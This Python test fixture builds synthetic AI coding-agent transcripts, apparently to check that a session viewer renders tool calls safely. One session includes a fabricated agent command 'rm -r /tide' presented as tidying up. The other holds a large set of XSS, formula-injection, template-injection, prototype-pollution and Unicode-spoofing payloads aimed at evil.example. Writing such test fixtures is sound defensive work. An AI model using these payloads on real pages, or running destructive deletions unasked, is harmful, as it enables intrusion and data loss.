"""Two sessions to look at: one with every kind of tool call, and one that means harm."""

from __future__ import annotations

import base64
import json
import struct
import zlib
from typing import Any, Final

from tests.generated import HOUR, Json, Transcript

ROOT: Final = "/home/dev/tidemark"


def picture(width: int = 160, height: int = 90) -> str:
    """Return a small PNG of a gradient, in base64."""
    rows = b"".join(
        b"\0" + bytes(v for x in range(width) for v in (40, 90 + x % 160, 120 + y % 130))
        for y in range(height)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
    png += chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return base64.b64encode(png).decode()


def call(name: str, **args: Any) -> Json:
    return {"type": "tool-call", "content": {"toolName": name, "args": args}}


def result(content: Any) -> Json:
    return {"type": "tool-result", "content": content}


def every_tool(end: int) -> Transcript:
    """Return a session with each tool once, in the shapes in which plugins send them."""
    transcript = Transcript(
        {
            "externalId": "generated-every-tool",
            "source": "claude-code",
            "title": "Every tool once, on tidemark",
            "projectName": "tidemark",
            "projectPath": ROOT,
            "model": "claude-sonnet-4-20250514",
            "provider": "anthropic",
            "promptTokens": 48_200,
            "completionTokens": 3_150,
            "cost": 0.1919,
            "durationMs": 612_000,
            "createdAt": end - HOUR,
            "updatedAt": end - HOUR // 2,
        }
    )
    transcript.say("system", "You work on tidemark, a small program that predicts tides.")
    transcript.say("user", "The tests fail since yesterday. Find out why, mend it and tell me how.")
    transcript.say(
        "assistant",
        "I run the tests first.",
        model="claude-sonnet-4-20250514",
        promptTokens=12_400,
        completionTokens=320,
        durationMs=4_200,
        parts=[
            {"type": "thinking", "content": "The change of yesterday touched the moon's phase."},
            {"type": "text", "content": "I run the tests first."},
            call("Bash", command="make test 2>&1 | tail -n 20", description="Run the tests"),
            result(
                "\x1b[1mcollected 42 items\x1b[0m\n\n"
                "tests/test_moon.py \x1b[32m.......\x1b[31mF\x1b[0m\n"
                "\x1b[31mE   assert 29.4 == 29.53 ± 0.01\x1b[0m\n"
                "\x1b[31m1 failed\x1b[0m, \x1b[32m41 passed\x1b[0m in 0.82s"
            ),
        ],
    )
    # Claude Code's plugin sends a call as a message of its own, without the result.
    alone: Json = {"durationMs": 12}
    file = f"{ROOT}/src/moon.py"
    transcript.say("assistant", parts=[call("Read", file_path=file, offset=1, limit=40)], **alone)
    transcript.say(
        "assistant",
        parts=[call("Grep", pattern="SYNODIC", path="src", output_mode="content")],
        **alone,
    )
    transcript.say("assistant", parts=[call("Glob", pattern="tests/**/*moon*.py")], **alone)
    transcript.say(
        "assistant",
        parts=[
            call(
                "TodoWrite",
                todos=[
                    {"content": "Find the wrong constant", "status": "completed"},
                    {"content": "Mend it", "status": "in_progress", "activeForm": "Mending it"},
                    {"content": "Run the tests again", "status": "pending"},
                ],
            )
        ],
        **alone,
    )
    transcript.say(
        "assistant",
        parts=[
            call(
                "Edit",
                file_path=file,
                old_string="# Days from new moon to new moon.\nSYNODIC = 29.4\n",
                new_string="# Days from new moon to new moon, on average.\nSYNODIC = 29.530589\n",
            ),
            # claude-code-sync 0.1.8: one part with name, arguments and result.
            {
                "type": "tool_use",
                "content": {
                    "toolName": "MultiEdit",
                    "args": {
                        "file_path": f"{ROOT}/README.md",
                        "edits": [
                            {"old_string": "29.4 days", "new_string": "29.53 days"},
                            {"old_string": "Todo: moon", "new_string": "The moon is done."},
                        ],
                    },
                    "result": "Applied 2 edits",
                },
            },
            call("Write", file_path=f"{ROOT}/NOTES.md", content="# Notes\n\n- one constant\n"),
        ],
    )
    # Cursor's plugin sends JSON as text, in messages of the role `tool`.
    cursor = {"tool_name": "edit_file", "input": {"path": "src/moon.py", "diff": "-29.4\n+29.53"}}
    transcript.say("tool", parts=[{"type": "tool_use", "content": json.dumps(cursor)}])
    transcript.say(
        "assistant",
        parts=[
            call("WebFetch", url="https://example.org/moon", prompt="How long is a lunar month?"),
            result({"result": "29 days, 12 hours, 44 minutes and 3 seconds."}),
            call(
                "Task",
                description="Check the other constants",
                prompt="Compare each constant in src/ with its source.",
                subagent_type="general-purpose",
            ),
            result([{"type": "text", "text": "All **seven** others are right."}]),
            call("mcp__almanac__lookup", body="moon", year=2026, verbose=False),
            result({"output": {"phase": "waxing", "age": 4.2}, "isError": False}),
            call("Bash", command="rm -r /tide", description="Tidy up"),
            {
                "type": "tool-result",
                "content": {"result": "rm: permission denied", "is_error": True},
            },
        ],
    )
    source = {"type": "base64", "media_type": "image/png", "data": picture()}
    transcript.say(
        "user",
        "This is how it looks now.",
        parts=[
            {"type": "text", "content": "This is how it looks now."},
            {"type": "image", "content": {"source": source}},
        ],
    )
    transcript.say("assistant", parts=[{"type": "step-finish", "content": {"reason": "stop"}}])
    transcript.say(
        "assistant",
        "The constant for the **synodic month** was cut to `29.4`.\n\n"
        "| constant | before | after |\n|---|---:|---:|\n| `SYNODIC` | 29.4 | 29.530589 |\n\n"
        "1. I put the whole value in.\n2. All 42 tests pass.\n\n"
        "```python\nSYNODIC = 29.530589\n\n\ndef age(days: float) -> float:\n"
        '    """Days since new moon."""\n    return days % SYNODIC\n```\n\n'
        "See [the almanac](https://example.org/moon).",
        model="claude-sonnet-4-20250514",
        promptTokens=18_900,
        completionTokens=410,
        durationMs=9_700,
    )
    return transcript


# Each tries to run `boom`, to fetch from evil.example, to leave its place on the page, or to break
# what draws it.
HOSTILE_TEXTS: Final = {
    "script": "<script>window.boom('script')</script>\n\n<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "handlers": "<img src=x onerror=\"boom('img')\"> <body onload=boom('body')>"
    " <details open ontoggle=boom('toggle')>x</details> <a href=# onclick=boom('a')>click</a>",
    "links": "[one](javascript:boom('link')) [two](JaVaScRiPt:boom('link')) "
    "[three](java\nscript:boom('x')) [four](data:text/html,<script>boom('data')</script>) "
    "[five](vbscript:boom) [six](&#106;avascript:boom('entity')) <javascript:boom('auto')> "
    "[seven](\x01javascript:boom('control)) [eight](//evil.example/relative)",
    "images": "![x](https://evil.example/pixel.png) ![y](javascript:boom('image')) "
    "![z](data:image/svg+xml,<svg/onload=boom('svg')>)",
    "svg": "<svg onload=boom('svg')><animate onbegin=boom('animate') attributeName=x dur=1s>"
    "<foreignObject><iframe srcdoc=\"<script>parent.boom('frame')</script>\"></iframe>"
    "</foreignObject></svg><math><mi//xlink:href=\"data:x,<script>boom('math')</script>\">",
    "embedding": "<iframe src=https://evil.example></iframe><object data=//evil.example></object>"
    "<embed src=//evil.example><link rel=stylesheet href=//evil.example/x.css>"
    "<style>*{display:none!important}@import '//evil.example/y.css';</style>"
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "forms": "<form action=//evil.example><input name=password autofocus onfocus=boom('focus')>"
    "<button formaction=javascript:boom('form')>Sign in again</button></form>",
    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:red'>gone</div>",
    "clobbering": "<img name=querySelector><form id=documentElement><input name=cookie></form>",
    "right to left": "user\u202egnp.exe\u202c and \u2066isolated\u2069 \u200f"
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u202e" + "desrever " * 20,
    "ansi": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H\x1b]0;title\x07 "
    "\x1b]8;;javascript:boom()\x07x\x1b]8;;\x07 \x1b[38;5;999mx \x1b["
    + ";".join(["1"] * 500)
    + "m",
    "broken markdown": "```\nnever closed\n\n| a | b\n|--\n| c\n\n**bold *both** one*\n\n[x](<y\n\n"
    "> " * 40 + "\n\n- " * 40,
    "deep quotes": ">" * 3_000 + " deep",
    "deep lists": "\n".join("  " * n + "- item" for n in range(300)),
    "brackets": "[" * 5_000 + "](" * 5_000,
    "emphasis": "*_" * 5_000 + "x",
    "zalgo": "".join(f"a{''.join(chr(0x300 + i % 112) for i in range(60))}" for _ in range(20)),
    "nul and friends": "a\x00b\x07c\x08d\x7fe\ufeff\ufffe\u2028\u2029\u0085",
    "templates": "{{constructor.constructor('boom()')()}} ${boom()} <%= boom %> {% raw %}",
}


def hostile(end: int) -> Transcript:
    """Return a session in which everything that is shown tries something."""
    attack = HOSTILE_TEXTS["handlers"]
    transcript = Transcript(
        {
            "externalId": "generated-hostile",
            "source": "<b onmouseover=boom('source')>evil",
            "title": "Hostile <script>boom('title')</script> \u202egnp.exe",
            "projectName": "<img src=x onerror=boom('project')>",
            "projectPath": "/home/\"><svg onload=boom('path')>",
            "model": "=cmd|' /C calc'!A0<script>boom('model')</script>",
            "provider": "javascript:boom('provider')",
            "promptTokens": 1,
            "completionTokens": 1,
            "cost": 0.01,
            "createdAt": end - 2 * HOUR,
            "updatedAt": end - HOUR,
        }
    )
    for name, text in HOSTILE_TEXTS.items():
        transcript.say("user", f"{name}:\n\n{text}")
        transcript.say("assistant", parts=[{"type": "text", "content": f"{name} again: {text}"}])
    transcript.say("user", "one line of 1 MB: " + "A<b>" * 262_144)
    transcript.say("assistant", "words of 1 MB: " + "boom() <i>" * 104_858)
    deep: Any = "bottom"
    for _ in range(100):
        deep = {"in": [deep]}
    svg = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='boom()'/>").decode()
    transcript.say(
        "assistant",
        parts=[
            {"type": "thinking", "content": attack},
            call("Bash", command=f"echo '{attack}'", description=attack),
            result("\x1b[31m" + HOSTILE_TEXTS["ansi"] + "\x1b]8;;https://evil.example\x07link"),
            call("Edit", file_path=attack, old_string=attack, new_string="</pre>" + attack),
            call("Write", file_path="javascript:boom('file')", content=attack),
            call("Read", file_path=HOSTILE_TEXTS["right to left"]),
            call("TodoWrite", todos=[{"content": attack, "status": attack}, None, 7, [attack]]),
            call("WebFetch", url="javascript:boom('fetch')", prompt=attack),
            call(attack, __proto__={"boom": 1}, constructor=attack, deep=deep),
            result({"result": deep, "toString": attack, "isError": attack}),
            {"type": attack[:60], "content": {"html": attack, "deep": deep}},
            {"type": "tool-call", "content": '{"toolName": "Bash", "args": {"command": '},
            {"type": "tool-call", "content": [[[attack]]]},
            {"type": "text", "content": {"text": {"text": attack}}},
        ],
    )
    transcript.say(
        "user",
        parts=[
            _image("image/png", picture()),
            _image("image/svg+xml", svg),
            _image("text/html", base64.b64encode(attack.encode()).decode()),
            _image("image/png", "not base64 \" onerror=boom('data')"),
            {"type": "image", "content": {"url": "https://evil.example/pixel.png"}},
            {"type": "image", "content": "javascript:boom('image')"},
        ],
    )
    transcript.say("assistant", "The last message is harmless: the end.")
    return transcript


def _image(media_type: str, data: str) -> Json:
    source = {"type": "base64", "media_type": media_type, "data": data}
    return {"type": "image", "content": {"source": source}}
